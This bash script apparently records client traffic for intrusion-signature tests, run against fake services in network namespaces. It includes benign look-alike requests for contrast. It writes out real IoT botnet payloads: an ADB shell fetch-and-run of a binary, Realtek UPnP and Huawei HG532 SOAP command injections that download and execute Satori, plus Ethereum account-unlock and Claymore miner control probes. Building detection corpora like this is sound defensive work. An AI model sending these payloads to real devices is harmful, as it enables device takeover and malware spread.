#!/usr/bin/env bash
# Capture what real clients send to the services the seed reports name, for the signature
# tests. Same namespaces as make-tool-captures.sh; fake_services.py answers in the target
# namespace so each client goes as far as a scanner would. Payloads that name a download host
# use 192.0.2.1 (TEST-NET-1): it only appears inside the captured bytes, nothing is sent there.
# Needs root, the --tools packages of scripts/install-deps.sh (adb, curl, netcat-openbsd, nodejs,
# npm) and ethers from npm: NODE_MODULES=DIR/node_modules (default /opt/ssnode/node_modules).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here}
node_modules=${NODE_MODULES:-/opt/ssnode/node_modules}
. "$here/capture-lib.sh"
cleanup() {
  stop_services
  ip netns exec "$scanner" adb kill-server >/dev/null 2>&1 || true
  netns_cleanup
}
trap cleanup EXIT
netns_setup
start_services

capture jsonrpc-ethers env NODE_PATH="$node_modules" node "$here/jsonrpc-client.cjs" \
  "http://$target_ip:8545"

capture jsonrpc-curl bash -c "
  curl -s -H 'Content-Type: application/json' \
    -d '{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],\"id\":1}' http://$target_ip:8545/
  curl -s -H 'Content-Type: application/json' \
    -d '{\"jsonrpc\":\"2.0\",\"method\":\"personal_unlockAccount\",\"params\":[\"0x407d73d8a49eeb85d32cf465507dd71d507100c1\",\"qwerty\",0],\"id\":2}' \
    http://$target_ip:8545/"

capture claymore bash -c "
  printf '{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n' | nc -q 1 $target_ip 3333
  printf '{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat2\"}\n' | nc -q 1 $target_ip 3333
  printf '{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"control_gpu\",\"params\":[0, 1]}\n' | nc -q 1 $target_ip 3333
  printf '{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_restart\"}\n' | nc -q 1 $target_ip 3333"

capture adb bash -c "
  adb start-server
  adb connect $target_ip:5555
  sleep 1
  adb -s $target_ip:5555 shell 'cd /data/local/tmp; busybox wget http://192.0.2.1/ug.arm7 -O .x; chmod 777 .x; ./.x'
  adb disconnect"

soap_upnp='<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; rm -rf nig; wget http://192.0.2.1/bins/satori.mips -O nig; chmod 777 nig; ./nig realtek.selfrep`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>'
soap_hg532='<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/.f -r /bins/satori.mips; /tmp/.f huawei.selfrep)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>'
capture exploits bash -c "
  curl -s -X POST -H 'Content-Type: text/xml' -H 'SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' \
    --data-binary '$soap_upnp' http://$target_ip:52869/picsdesc.xml
  curl -s -X POST -H 'Content-Type: text/xml' -H 'SOAPAction: \"urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade\"' \
    -u dslf-config:admin --data-binary '$soap_hg532' http://$target_ip:37215/ctrlt/DeviceUpgrade_1"

# Benign look-alikes: ordinary HTTP and JSON-RPC calls that are none of the attack stages.
capture benign bash -c "
  curl -s http://$target_ip:52869/ -o /dev/null
  curl -s -X POST -H 'Content-Type: text/xml' --data-binary '<?xml version=\"1.0\"?><s:Envelope><s:Body><u:GetExternalIPAddress/></s:Body></s:Envelope>' http://$target_ip:37215/
  curl -s -H 'Content-Type: application/json' \
    -d '{\"jsonrpc\":\"2.0\",\"method\":\"eth_gasPrice\",\"params\":[],\"id\":7}' http://$target_ip:8545/
  curl -s -H 'Content-Type: application/json' -d '{\"accounts\":[],\"note\":\"eth_accounts is a method name\"}' http://$target_ip:8545/
  printf 'GET / HTTP/1.0\r\n\r\n' | nc -q 1 $target_ip 3333"
